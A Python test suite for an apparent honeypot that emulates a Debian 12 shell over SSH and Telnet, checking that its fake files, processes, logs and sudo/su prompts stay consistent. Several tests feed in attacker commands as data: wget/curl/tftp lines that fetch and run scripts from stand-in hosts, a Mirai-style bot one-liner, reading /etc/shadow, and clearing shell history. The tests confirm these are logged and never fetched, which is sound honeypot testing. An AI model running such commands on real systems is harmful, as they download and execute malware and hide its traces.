"""The fake shell never contradicts itself: what a session writes it reads back, every fact has
one source, and the tools answer as Debian 12's do."""

from __future__ import annotations

import re
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from twisted.conch.ssh.common import NS
from twisted.conch.ssh.keys import FingerprintFormats
from twisted.internet.task import Clock

from honeymesh.detection.traps.facts import Connection, Endpoint, NodeFacts, fingerprint
from honeymesh.detection.traps.fakefs import MAX_BYTES, MAX_ENTRIES
from honeymesh.detection.traps.pam import fail_delay
from honeymesh.detection.traps.shell import FakeShell, ShellPersona, ShellSession
from honeymesh.detection.traps.ssh import (
    SshDialogue,
    SshHostKeys,
    SshSettings,
    _Avatar,
    _ShellChannel,
)
from honeymesh.detection.traps.ssh_look import dropbear_key_file
from honeymesh.detection.traps.telnet import REFUSING_CLIENT, TelnetDialogue, TelnetSettings

from .dialogues import WEAK, talk

NOW = 1_764_000_000.0
FACTS = NodeFacts(b"\x07" * 32, NOW - 20 * 86400)
PERSONA = ShellPersona("web01", "6.1.0-28-amd64", "Debian GNU/Linux 12 (bookworm)", facts=FACTS)
ATTACKER = Connection(Endpoint("198.51.100.20", 22), Endpoint("203.0.113.9", 40123))


def shell(user: str = "root", connection: Connection | None = ATTACKER) -> FakeShell:
    return FakeShell(PERSONA, user, lambda: NOW, connection=connection)


def test_redirections_and_file_commands_change_what_later_commands_see() -> None:
    sh = shell()
    assert sh.run("echo x > f; cat f").output == "x"
    assert sh.run("echo y >> f; cat f").output == "x\ny"
    assert sh.run("cat /etc/hostname > h; cat h").output == "web01"
    assert sh.run("uname -m > /dev/null").output == ""
    sh.run("touch t; mkdir -p d/e; cp f d/e/g; mv t d/u; chmod 700 d/u")
    assert sh.run("ls").output == "d  f  h"
    assert sh.run("ls d").output == "e  u"
    assert sh.run("cat d/e/g").output == "x\ny"
    assert sh.run("ls -l d/u").output.startswith("-rwx------ 1 root root 0 ")
    assert sh.run("rm f; cat f").output == "cat: f: No such file or directory"
    assert sh.run("rm d").output == "rm: cannot remove 'd': Is a directory"
    assert sh.run("rm -rf d; ls").output == "h"
    assert sh.run("cd /tmp && echo $PWD").output == "/tmp"
    assert sh.run("ls /nowhere 2>/dev/null; echo $?").output == "2"
    assert sh.run("mkdir /tmp/x && cd /tmp/x && pwd").output == "/tmp/x"


def test_a_line_that_writes_without_end_is_stopped_and_the_next_one_runs() -> None:
    sh = shell()
    flood = sh.run(("ls -la / > /dev/null; " * 400)[:4000] + "echo never")
    assert "fork: retry: Resource temporarily unavailable" in flood.output
    assert "never" not in flood.output
    assert sh.run("echo again").output == "again"


def test_removed_directories_stay_removed() -> None:
    sh = shell()
    assert sh.run("rm -rf /etc; mkdir /etc; ls -a /etc").output == ".  .."
    assert (
        sh.run("mkdir -p /tmp/a/b; touch /tmp/a/b/f; mv /tmp/a /tmp/c; ls /tmp/c/b").output == "f"
    )
    assert sh.run("ls /tmp/a").output == "ls: cannot access '/tmp/a': No such file or directory"
    assert sh.run("rm -r /tmp/c; mkdir /tmp/c; ls /tmp/c").output == ""
    assert sh.run("mkdir /tmp/d; mv /tmp/d /tmp/d/e").output == (
        "mv: cannot move '/tmp/d' to a subdirectory of itself, '/tmp/d/e'"
    )


def test_each_session_has_its_own_layer() -> None:
    first, second = shell(), shell()
    first.run("echo secret > /tmp/mine; rm /etc/hostname")
    assert second.run("cat /tmp/mine").output == "cat: /tmp/mine: No such file or directory"
    assert second.run("cat /etc/hostname").output == "web01"


def test_a_session_cannot_write_without_bound() -> None:
    sh = shell()
    big = "A" * 4000
    failures = 0
    for i in range(MAX_BYTES // 4000 + 10):
        result = sh.run(f"echo {big} > /tmp/f{i}")
        failures += "No space left on device" in result.output
    assert failures >= 9
    sh2 = shell()
    for i in range(MAX_ENTRIES + 5):
        last = sh2.run(f"touch /tmp/e{i}")
    assert last.output == "touch: cannot touch '/tmp/e516': No space left on device"
    full = sh2.run("echo x > /tmp/one-more").output
    assert full == "-bash: /tmp/one-more: No space left on device"


def test_an_ordinary_user_is_held_to_the_modes() -> None:
    sh = shell("admin")
    assert sh.run("cat /etc/shadow").output == "cat: /etc/shadow: Permission denied"
    assert sh.run("echo x > /etc/x").output == "-bash: /etc/x: Permission denied"
    assert sh.run("ls /root").output == "ls: cannot open directory '/root': Permission denied"
    assert sh.run("echo ok > ~/notes; cat /home/admin/notes").output == "ok"
    assert "admin:x:1000:1000" in sh.run("cat /etc/passwd").output


def test_ls_la_shows_real_modes_owners_sizes_and_dates() -> None:
    lines = shell().run("ls -la /").output.split("\n")
    rows = {line.split()[8]: line.split() for line in lines[1:]}
    assert rows["bin"][0] == "lrwxrwxrwx" and rows["bin"][-1] == "usr/bin"
    assert rows["tmp"][0] == "drwxrwxrwt"
    assert rows["root"][0] == "drwx------"
    assert rows["proc"][0] == "dr-xr-xr-x" and rows["proc"][4] == "0"
    assert len({tuple(r[5:8]) for r in rows.values()}) >= 4  # not one date for everything
    assert len({r[0] for r in rows.values()}) >= 5
    shadow = shell().run("ls -l /etc/shadow").output.split()
    assert shadow[:4] == ["-rw-r-----", "1", "root", "shadow"]
    assert int(shadow[4]) == len(shell().run("cat /etc/shadow").raw.encode())


def test_home_dotfiles_are_debians_own_as_dpkg_and_every_debian_box_know_them() -> None:
    """``ls -la ~`` shows the same sizes on every Debian 12 box, and the conffiles' digests
    are in dpkg's status: a home of other files is a tell."""
    user = shell("admin").run("ls -la ~").output
    sizes = {row.split()[-1]: row.split()[4] for row in user.split("\n")[1:] if row}
    assert (sizes[".bashrc"], sizes[".profile"], sizes[".bash_logout"]) == ("3526", "807", "220")
    digest = shell("admin").run("md5sum ~/.bashrc").output
    assert digest.startswith("ee35a240758f374832e809ae0ea4883a  ")  # bash's conffile md5sum
    root = shell("root").run("ls -la /root; md5sum /root/.profile").output
    assert " 571 " in root and " 161 " in root and ".bash_logout" not in root  # base-files'
    assert root.endswith("d68ce7c7d7d2bb7d48aeb2f137b828e4  /root/.profile")


def test_a_here_string_is_the_commands_input() -> None:
    sh = shell()
    assert sh.run("base64 -d <<< aGVsbG8K").output == "hello"
    assert sh.run('cat <<< "a  b"; wc -l <<< x').output == "a  b\n1"


def test_free_prints_the_units_asked_for() -> None:
    sh = shell()
    kib = int(sh.run("free").output.split("\n")[1].split()[1])
    assert int(sh.run("free -m").output.split("\n")[1].split()[1]) == kib // 1024
    assert re.fullmatch(r"\d+(\.\d)?Gi", sh.run("free -h").output.split("\n")[1].split()[1])
    assert f"MemTotal:       {kib:8d} kB" in sh.run("cat /proc/meminfo").output


def test_sudo_answers_as_debian_does() -> None:
    root = shell()
    assert "User root may run the following commands on web01:" in root.run("sudo -l").output
    assert root.run("sudo id").output == "uid=0(root) gid=0(root) groups=0(root)"
    exec_mode = shell("admin")
    assert "a terminal is required to read the password" in exec_mode.run("sudo -l").output
    session = ShellSession(shell("admin"), echo=True)
    session.start()
    out = session.feed(b"sudo -l\r").reply
    assert out.endswith(b"[sudo] password for admin: ") and session.editor.secret
    replies = [session.feed(pw).reply for pw in (b"one\r", b"two\r", b"three\r")]
    assert replies[0] == b"\r\nSorry, try again.\r\n[sudo] password for admin: "
    assert b"one" not in b"".join(replies)  # never echoed
    assert replies[2] == b"\r\nsudo: 3 incorrect password attempts\r\nadmin@web01:~$ "
    assert not session.editor.secret


def test_sudo_and_su_answer_a_wrong_password_after_libpams_pause() -> None:
    """As Debian 12's sudo and su (tests/fidelity/test_telnet.py measures them): the line end
    at once, the answer after libpam's pause for pam_unix's 2 s, a function of the second the
    prompt came up, and su's own second; what was typed behind the password is thrown away."""
    clock = [1_700_000_000.2]
    session = ShellSession(FakeShell(PERSONA, "admin", lambda: clock[0]), echo=True)
    session.start()
    asked = clock[0]
    assert session.feed(b"sudo id\r").reply.endswith(b"[sudo] password for admin: ")
    clock[0] += 4.0
    out = session.feed(b"one\rwhoami\r")
    assert out.pause == fail_delay(asked, 2.0) and 1.0 <= out.pause < 3.0
    assert out.reply[: out.pause_at] == b"\r\n"
    assert out.reply[out.pause_at :] == b"Sorry, try again.\r\n[sudo] password for admin: "
    assert out.commands == ()  # whoami: thrown away, never run
    asked = clock[0] + out.pause  # the next prompt comes up when the pause is over
    clock[0] = asked + 1.5
    assert session.feed(b"two\r").pause == fail_delay(asked, 2.0)
    assert session.feed(b"\x03").reply.endswith(b"admin@web01:~$ ")  # ^C: no pause
    clock[0] += 10
    asked = clock[0]
    assert session.feed(b"su -\r").reply.endswith(b"Password: ") and session.editor.secret
    out = session.feed(b"toor\r")
    assert out.pause == fail_delay(asked, 2.0) + 1.0
    assert out.reply[out.pause_at :] == b"su: Authentication failure\r\nadmin@web01:~$ "
    assert not session.editor.secret and session.shell.status == 1
    # No terminal (an exec request): su reads its input, and fails when it ends
    assert shell("admin").run("su -").output == "Password: su: Authentication failure"


def test_lines_sent_in_one_go_are_read_as_bash_sudo_and_su_read_them() -> None:
    """readline echoes a line when it reads it; sudo reads what was typed ahead of its prompt
    as the password, su's prompt throws it away (as tests/fidelity/test_telnet.py measures)."""
    session = ShellSession(shell("admin"), echo=True)
    session.start()
    assert session.feed(b"hostname\rpwd\recho").reply == (
        b"hostname\r\nweb01\r\nadmin@web01:~$ pwd\r\n/home/admin\r\nadmin@web01:~$ echo"
    )
    assert session.feed(b" hi\r").reply == b" hi\r\nhi\r\nadmin@web01:~$ "
    out = session.feed(b"sudo id\rone\rtwo\r")
    said = b"sudo id\r\n[sudo] password for admin: \r\n"
    assert out.reply[: out.pause_at] == said and out.pause > 0
    assert out.reply[out.pause_at :] == b"Sorry, try again.\r\n[sudo] password for admin: "
    # ^C: sudo gives up ("two" was thrown away: it never counted)
    assert session.feed(b"\x03").reply == (
        b"\r\nsudo: 1 incorrect password attempt\r\nadmin@web01:~$ "
    )
    out = session.feed(b"su\rtoor\r")
    assert out.reply == b"su\r\nPassword: " and not out.pause and session.editor.secret
    assert session.feed(b"\x03").reply == b"\r\nadmin@web01:~$ "  # su leaves without a word


def test_ctrl_c_and_ctrl_d_reach_bash_sudo_and_su_as_a_terminal_sends_them() -> None:
    """^C flushes what was typed ahead of it (those lines never run); ^D at a password prompt
    is the program's end of input (as Debian 12's bash, sudo and su: measured)."""
    session = ShellSession(shell("admin"), echo=True)
    session.start()
    out = session.feed(b"rm -rf /tmp/x\r\x03hostname\r")
    assert out.reply == b"^C\r\nadmin@web01:~$ hostname\r\nweb01\r\nadmin@web01:~$ "
    assert out.commands == ("hostname",)
    session.feed(b"sudo id\r")
    out = session.feed(b"\x04")
    assert out.reply == (
        b"\r\nsudo: no password was provided\r\nsudo: a password is required\r\nadmin@web01:~$ "
    )
    assert not out.pause and not session.editor.secret
    session.feed(b"su\r")
    out = session.feed(b"\x04")
    assert out.reply[: out.pause_at] == b"\r\n" and out.pause == 1.0  # su's own second
    assert out.reply[out.pause_at :] == b"su: Authentication failure\r\nadmin@web01:~$ "
    # What follows a ^C is read as usual, a wrong password's pause included
    out = session.feed(b"\x03sudo id\rone\r")
    assert out.reply[: out.pause_at] == (
        b"^C\r\nadmin@web01:~$ sudo id\r\n[sudo] password for admin: \r\n"
    )
    assert out.reply[out.pause_at :].startswith(b"Sorry, try again.") and out.pause > 0
    session.feed(b"\x03")
    # A ^C between the halves of a CR LF: the LF is a line of its own (an empty one)
    session.feed(b"pwd\r")
    assert session.feed(b"\x03\nid\r").reply == (
        b"^C\r\nadmin@web01:~$ \r\nadmin@web01:~$ id\r\n"
        + session.shell.run("id").raw.replace("\n", "\r\n").encode()
        + b"admin@web01:~$ "
    )
    # Without a terminal (SSH with no pty) 0x03 is a byte like another: the line before runs
    plain = ShellSession(shell("admin"), echo=False, newline=b"\n")
    plain.start()
    assert plain.feed(b"hostname\n\x03").commands == ("hostname",)


def test_python_perl_and_missing_tools() -> None:
    sh = shell()
    assert sh.run("python3 -c 'print(1)'").output == "1"
    assert sh.run("python3 -c \"import os; print('a', 2)\"").output == "a 2"
    assert sh.run("python3 --version").output == "Python 3.11.2"
    assert sh.run("python -V").output == "-bash: python: command not found"
    assert sh.run("which python3 wget").output == "/usr/bin/python3\n/usr/bin/wget"
    assert sh.run("perl -e 'print \"hi\\n\"'").output == "hi"


def test_the_motd_and_uname_share_one_source() -> None:
    """login(1) through pam_motd (the Telnet shell): uname -snrvm, /etc/motd, the last login."""
    sh = FakeShell(PERSONA, "root", lambda: NOW, connection=ATTACKER, via="telnet")
    first = sh.motd().split("\n")[0]
    assert first == sh.run("uname -snrvm").output
    assert sh.run("uname -a").output == first + " GNU/Linux"
    assert sh.motd().startswith(first + "\n" + sh.run("cat /etc/motd").raw + "Last login: ")
    assert sh.run("cat /proc/version").output.endswith(first.split(" ", 3)[3].rsplit(" ", 1)[0])


def test_over_ssh_the_banner_is_dropbears_etc_motd_alone() -> None:
    """Debian's dropbear has no PAM: no uname line, no last login (measured: 2022.83)."""
    sh = shell()
    assert sh.motd() == sh.run("cat /etc/motd").raw
    assert sh.motd().startswith("\nThe programs included with the Debian GNU/Linux system")


def test_the_real_connection_is_shown() -> None:
    sh = shell()
    assert "inet 198.51.100.20/24" in sh.run("ip a").output
    assert "inet 198.51.100.20  netmask" in sh.run("ifconfig").output
    assert sh.run("hostname -I").output == "198.51.100.20 "
    assert "203.0.113.9" in sh.run("w").output.split("\n")[2]
    assert sh.run("last").output.split("\n")[0].split()[2] == "203.0.113.9"
    assert "(203.0.113.9)" in sh.run("who").output
    netstat = sh.run("netstat -tn").output
    assert re.search(r"198\.51\.100\.20:22 +203\.0\.113\.9:40123 +ESTAB", netstat)
    loopback = shell(connection=Connection(Endpoint("127.0.0.1", 22), Endpoint("127.0.0.1", 5)))
    assert f"inet {FACTS.private_address}/24" in loopback.run("ip a").output
    assert FACTS.mac in loopback.run("ip a").output


def test_the_processor_and_hypervisor_agree_with_the_nic() -> None:
    sh = shell()
    name = FACTS.cpu[0]
    assert sh.run("cat /proc/cpuinfo | grep 'model name' | head -n 1").output.endswith(name)
    assert f"Model name:            {name}" in sh.run("lscpu").output
    nodes = [NodeFacts(bytes([i]) * 32, NOW) for i in range(64)]
    vm = next(f for f in nodes if f.mac.startswith("52:54:00"))
    kvm = FakeShell(ShellPersona("h", "k", "o", facts=vm), "root", lambda: NOW)
    assert "hypervisor" in kvm.run("grep flags /proc/cpuinfo | head -n 1").output.split()
    assert "Hypervisor vendor:     KVM" in kvm.run("lscpu").output
    bare = next(f for f in nodes if not f.hypervisor)
    metal = FakeShell(ShellPersona("h", "k", "o", facts=bare), "root", lambda: NOW)
    assert "hypervisor" not in metal.run("cat /proc/cpuinfo").output
    assert "Hypervisor" not in metal.run("lscpu").output


def test_dropbearkey_prints_the_host_key_it_shows_and_ssh_keygen_cannot_read_it() -> None:
    """As on Debian 12 with dropbear-bin 2022.83 (its output copied from the real tool)."""
    sh = shell()
    key = "/etc/dropbear/dropbear_ed25519_host_key"
    out = sh.run(f"dropbearkey -y -f {key}; echo $?").output
    assert re.fullmatch(
        r"Public key portion is:\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI[A-Za-z0-9+/]{43} "
        r"root@web01\nFingerprint: SHA256:[A-Za-z0-9+/]{43}\n0",
        out,
    )
    line = out.split("\n")[1]
    assert out.split("\n")[2] == f"Fingerprint: {fingerprint(line)}"
    assert sh.run(f"ssh-keygen -lf {key}; echo $?").output == (
        f"{key} is not a public key file.\n255"
    )
    assert sh.run("dropbearkey -y -f /nowhere; echo $?").output == "Failed reading '/nowhere'\n255"
    assert sh.run("dropbearkey -y -f /etc/passwd; echo $?").output == ("Exited: String too long\n1")
    assert sh.run("ls -l " + key).output.startswith("-rw------- 1 root root 83 ")
    user = shell("admin")
    assert user.run(f"dropbearkey -y -f {key}").output == f"Failed reading '{key}'"


def test_the_machine_runs_dropbear_wherever_it_shows_its_ssh_server() -> None:
    """Processes, sockets, files, programs and accounts all name the SSH persona's server,
    and nothing names OpenSSH's."""
    sh = shell()
    server = FACTS.pid("sshd")
    ps = sh.run("ps -ef").output
    assert re.search(rf"^root +{server} +1 .* /usr/sbin/dropbear -EF -p 22 -W 65536$", ps, re.M)
    session = re.search(rf"^root +(\d+) +{server} .* /usr/sbin/dropbear -EF -p 22 -W 65536 -2 8$",
                        ps, re.M)  # fmt: skip
    assert session is not None
    assert re.search(rf"^root +{sh.pid} +{session.group(1)} .* -bash$", ps, re.M)
    assert sh.run("netstat -tlnp").output.split("\n")[2:] == [
        f"tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN      "
        f"{server}/dropbear",
        f"tcp6       0      0 :::22                   :::*                    LISTEN      "
        f"{server}/dropbear",
    ]
    assert f"ESTABLISHED {session.group(1)}/dropbear" in sh.run("netstat -tnp").output
    ss = sh.run("ss -tlnp").output
    assert f'users:(("dropbear",pid={server},fd=3))' in ss and "[::]:22" in ss
    assert sh.run("ls /etc/dropbear").output.split() == [
        "dropbear_ecdsa_host_key", "dropbear_ed25519_host_key", "dropbear_rsa_host_key", "log",
        "run",
    ]  # fmt: skip
    assert sh.run("ls /etc/ssh").output == "ssh_config  ssh_config.d"  # openssh-client's
    assert "#DROPBEAR_PORT=22" in sh.run("cat /etc/default/dropbear").output
    assert (
        "ExecStart=/usr/sbin/dropbear -EF"
        in sh.run("cat /lib/systemd/system/dropbear.service").output
    )
    assert sh.run("ls -l /usr/sbin/dropbear").output.startswith("-rwxr-xr-x 1 root root 176160 ")
    recon = sh.run(
        "ps aux; netstat -tanp; ss -tanp; cat /etc/passwd; ls -R /etc /run /usr/sbin; "
        "ls /etc/ssh/ssh_host_ed25519_key.pub"
    ).output
    assert "sshd" not in recon and "openssh" not in recon.lower()
    assert "cannot access '/etc/ssh/ssh_host_ed25519_key.pub'" in recon


def test_downloads_fail_plausibly_and_are_recorded_never_fetched() -> None:
    sh = shell()
    result = sh.run("cd /tmp; wget http://203.0.113.5/x.sh -O x.sh; chmod +x x.sh; ./x.sh")
    assert result.downloads == ("http://203.0.113.5/x.sh",)
    assert "Connecting to 203.0.113.5:80... failed: Connection refused." in result.output
    assert sh.run("ls -l x.sh").output.startswith("-rwxr-xr-x 1 root root 0 ")  # wget -O made it
    named = sh.run("curl -s http://evil.example/a | sh; curl evil.example/b")
    assert named.downloads == ("http://evil.example/a", "evil.example/b")
    assert named.output == "curl: (6) Could not resolve host: evil.example"
    assert sh.run("wget -q http://evil.example/c 2>&1; echo $?").output == "4"


def test_telnet_records_download_intents_with_the_command() -> None:
    dialogue = TelnetDialogue(TelnetSettings(b"", PERSONA, WEAK), lambda: NOW)
    dialogue.connected(ATTACKER)
    t = talk(
        dialogue, *REFUSING_CLIENT, b"root\r\n", b"root\r\n", b"wget http://203.0.113.5/b; id\r\n"
    )
    (command,) = t.found("trap.command")
    assert command["download_intent"] == ["http://203.0.113.5/b"]
    assert re.search(
        rb"Last login: \w{3} \w{3} [ \d]\d [\d:]{8} UTC \d{4} from [\d.]+ on pts/0", t.output
    )
    assert b"uid=0(root)" in t.output


def test_lists_and_pipes_behave_as_bash() -> None:
    sh = shell()
    assert sh.run("false && echo no || echo yes").output == "yes"
    assert sh.run("xyzzy; echo $?").output == "-bash: xyzzy: command not found\n127"
    assert sh.run("echo 'a;b' \"$(whoami)\" `id -u` # c").output == "a;b root 0"
    assert sh.run("cat /etc/passwd | grep root | awk -F: '{print $7}'").output == "/bin/bash"
    assert sh.run("cat /proc/cpuinfo | grep 'model name' | wc -l").output == "2"
    assert sh.run("echo hi | tee /tmp/t >/dev/null; cat /tmp/t").output == "hi"
    assert sh.run("X=5; echo $X").output == "5"
    assert sh.run("echo -n no-newline").raw == "no-newline"
    assert sh.run("busybox ECCHI").output == "ECCHI: applet not found"


def test_common_bot_one_liners() -> None:
    sh = shell()
    mirai = sh.run(
        "cd /tmp || cd /var/run; wget http://1.2.3.4/bins.sh; chmod 777 bins.sh; sh bins.sh; "
        "tftp 1.2.3.4 -c get t1.sh; tftp -r t2.sh -g 1.2.3.4; rm -rf bins.sh t1.sh t2.sh"
    )
    assert mirai.downloads == ("http://1.2.3.4/bins.sh", "tftp://1.2.3.4/t1.sh",
                               "tftp://1.2.3.4/t2.sh")  # fmt: skip
    assert "chmod: cannot access 'bins.sh': No such file or directory" in mirai.output
    assert sh.run("free -m | grep Mem | awk '{print $2}'").output == str(sh.memory_kib // 1024)
    root_fs = sh.run("cat /proc/mounts | grep ' / '").output.split()[0]
    assert sh.run("df -h | grep ' /$'").output.startswith(root_fs)
    assert re.fullmatch(
        r"-rwxr-xr-x 1 root root 148K .* /usr/bin/ls", sh.run("ls -lh $(which ls)").output
    )
    assert sh.run("echo hello > .s; dd bs=2 count=1 if=.s 2>/dev/null").output == "he"
    assert sh.run("echo 'root:x' | chpasswd; echo $?").output == "0"
    sh.run("history -c")
    assert sh.run("history").output == "    1  history"


def test_loops_and_conditions() -> None:
    sh = shell()
    assert sh.run("for i in $(seq 1 3); do echo n$i; done").output == "n1\nn2\nn3"
    assert sh.run("for i in 1 2 3; do if [ $i = 2 ]; then continue; fi; echo $i; done").output == (
        "1\n3"
    )
    assert sh.run("cd /tmp; for f in a b; do echo $f > $f.txt; done; cat b.txt").output == "b"
    assert sh.run("if [ -f /tmp/a.txt ]; then echo yes; else echo no; fi").output == "yes"
    assert sh.run("if false; then echo 1; elif [ -d /tmp ]; then echo 2; fi").output == "2"
    assert sh.run("while true; do echo x; done | wc -l").output == "100"  # bounded
    assert sh.run("while [ 1 ]; do echo once; break; done; echo after").output == "once\nafter"
    assert (
        sh.run("for i in 1 2; do echo $i").output == "-bash: syntax error: unexpected end of file"
    )
    assert sh.run("break; echo still").output == "still"
    script = "printf 'a 1\\nb 2\\n' > /tmp/.s; while read i j; do echo $j$i; done < /tmp/.s"
    assert sh.run(script).output == "1a\n2b"
    assert sh.run('echo hi | read v; echo "[$v]"').output == "[]"  # a pipe is a subshell


def test_uptime_grows_and_ps_shows_the_facts_pids() -> None:
    now = [NOW]
    sh = FakeShell(PERSONA, "root", lambda: now[0], connection=ATTACKER)
    first = open_uptime(sh)
    now[0] += 3600
    assert open_uptime(sh) - first == 3600
    ps = sh.run("ps aux").output
    assert re.search(rf"^root +{FACTS.pid('sshd')} .* /usr/sbin/dropbear -EF ", ps, re.M)
    assert re.search(rf"^redis +{FACTS.pid('redis-server')} ", ps, re.M)


def open_uptime(sh: FakeShell) -> int:
    return int(float(sh.run("cat /proc/uptime").output.split()[0]))


#: Shell metacharacters and the words bots type, mixed at random.
PIECES = [*"abcdefx01 /.~*?-'\"\\$(){}`;&|<>#=\n\t:", "echo ", "cat ", "ls -la ", "sudo ",
          "sh -c ", "rm -rf ", "mkdir -p ", "> f", "$(", "cd ..", "wget ", "for i in a b; ",
          "do ", "done", "if ", "then ", "else ", "fi", "while ", "[ -f f ]", "break"]  # fmt: skip
SHELL_TEXT = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(lines=st.lists(SHELL_TEXT, max_size=6), user=st.sampled_from(["root", "admin"]))
def test_any_command_line_is_answered_and_bounded(lines: list[str], user: str) -> None:
    sh = shell(user)
    for line in lines:
        result = sh.run(line)
        assert len(result.raw) <= 16 * 1024
        assert len(result.downloads) <= 20
        assert sh.cwd.startswith("/")


def test_the_ssh_shell_fingerprints_the_host_key_the_client_was_shown(tmp_path: Path) -> None:
    keys = SshHostKeys.load_or_create(tmp_path)
    settings = SshSettings(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", PERSONA, WEAK, keys)
    dialogue = SshDialogue(settings, Clock())
    dialogue.connected(ATTACKER)
    sh = dialogue.new_shell("root")
    for blob, key in keys.public.items():  # ed25519, rsa, ecdsa, as Dropbear names them
        kind = blob.decode().removeprefix("ssh-").split("-")[0]
        path = f"/etc/dropbear/dropbear_{kind}_host_key"
        said = sh.run(f"dropbearkey -y -f {path}").output.split("\n")
        real = key.fingerprint(FingerprintFormats.SHA256_BASE64)
        assert said[2] == "Fingerprint: SHA256:" + real.rstrip("=")  # as the client was shown
        assert said[1] == f"{key.toString('OPENSSH').decode()} root@web01"
        # Dropbear's format, made of the public key and the node's facts: never the real secret.
        private = sh.run(f"cat {path}").raw.encode("utf-8", "surrogateescape")
        assert private.startswith(NS(blob)) and private == dropbear_key_file(said[1], FACTS, kind)
    assert "203.0.113.9" in sh.run("who").output


class _Connection:
    """What an SSH channel writes to: its data, in order."""

    def __init__(self) -> None:
        self.sent = b""
        self.requests: list[bytes] = []
        self.closed = False

    def sendData(self, channel: object, data: bytes) -> None:
        self.sent += data

    def sendRequest(self, channel: object, kind: bytes, data: bytes) -> None:
        self.requests.append(kind)

    def sendClose(self, channel: object) -> None:
        self.closed = True


def test_the_ssh_shell_holds_a_wrong_passwords_answer_and_what_comes_meanwhile(
    tmp_path: Path,
) -> None:
    """Over SSH as over Telnet: su's answer after libpam's pause and its own second, and what
    the client types meanwhile is read after it, as the terminal keeps it for the shell."""
    keys = SshHostKeys.load_or_create(tmp_path)
    clock = Clock()
    clock.advance(1_700_000_000)
    dialogue = SshDialogue(SshSettings(b"SSH-2.0-dropbear_2022.83", PERSONA, WEAK, keys), clock)
    dialogue.connected(ATTACKER)

    def shell_channel() -> tuple[_ShellChannel, _Connection]:
        conn = _Connection()
        channel = _ShellChannel(
            remoteWindow=1 << 20,
            remoteMaxPacket=1 << 15,
            conn=conn,
            avatar=_Avatar(dialogue, "admin"),
        )
        channel.request_pty_req(b"")
        channel.request_shell(b"")
        return channel, conn

    channel, conn = shell_channel()
    channel.dataReceived(b"su -\r")
    assert conn.sent.endswith(b"Password: ")
    conn.sent = b""
    pause = fail_delay(clock.seconds(), 2.0) + 1.0
    channel.dataReceived(b"toor\r")
    channel.dataReceived(b"hostname\r")  # typed during the pause
    assert conn.sent == b"\r\n"
    clock.advance(pause - 0.001)
    assert conn.sent == b"\r\n"
    clock.advance(0.001)
    assert conn.sent == (
        b"\r\nsu: Authentication failure\r\nadmin@web01:~$ hostname\r\nweb01\r\nadmin@web01:~$ "
    )
    conn.sent = b""
    channel.dataReceived(b"su\r")
    channel.dataReceived(b"x\r")
    channel.eofReceived()  # the client's input ends during the pause: the answer still comes
    assert conn.requests == [] and not conn.closed
    clock.advance(4.5)
    assert conn.sent.endswith(b"\r\nsu: Authentication failure\r\nadmin@web01:~$ ")
    assert conn.requests == [b"exit-status"] and conn.closed
    channel, conn = shell_channel()
    channel.dataReceived(b"su\r")
    channel.dataReceived(b"x\r")
    channel.closed()  # the client goes during the pause: nothing is left to fire
    assert clock.getDelayedCalls() == []


def test_auth_log_has_the_ssh_servers_lines_for_the_last_login_and_this_one() -> None:
    """Dropbear logs each login to auth.log (no PAM); cron.hourly's PAM session is there every
    hour since the weekly rotation; what `last` says of the previous login agrees."""
    sh = shell()
    log = sh.run("cat /var/log/auth.log").output.split("\n")
    assert all(re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00 web01 ", ln) for ln in log)
    me = sh.pid - 3  # the dropbear child ps shows as the shell's parent
    assert log[-2:] == [
        f"{log[-2][:32]} web01 dropbear[{me}]: Child connection from 203.0.113.9:40123",
        f"{log[-1][:32]} web01 dropbear[{me}]: Password auth succeeded for 'root' from "
        "203.0.113.9:40123",
    ]
    previous = [ln for ln in log if "dropbear" in ln and "203.0.113.9" not in ln]
    admin = sh.run("last").output.split("\n")[1].split()
    assert len(previous) == 3 and f"from {admin[2]}:" in previous[0]
    assert previous[2][11:16] == admin[8]  # the logout time `last` shows
    assert "session opened for user root(uid=0) by (uid=0)" in log[0]
    assert "sshd" not in "\n".join(log)
    assert sh.run("ls -l /var/log/auth.log").output.startswith("-rw-r----- 1 root adm ")
    telnet = FakeShell(PERSONA, "root", lambda: NOW, connection=ATTACKER, via="telnet")
    assert telnet.run("tail -n 1 /var/log/auth.log").output.endswith(
        f"login[{telnet.pid - 3}]: pam_unix(login:session): session opened for user root(uid=0)"
        " by LOGIN(uid=0)"
    )
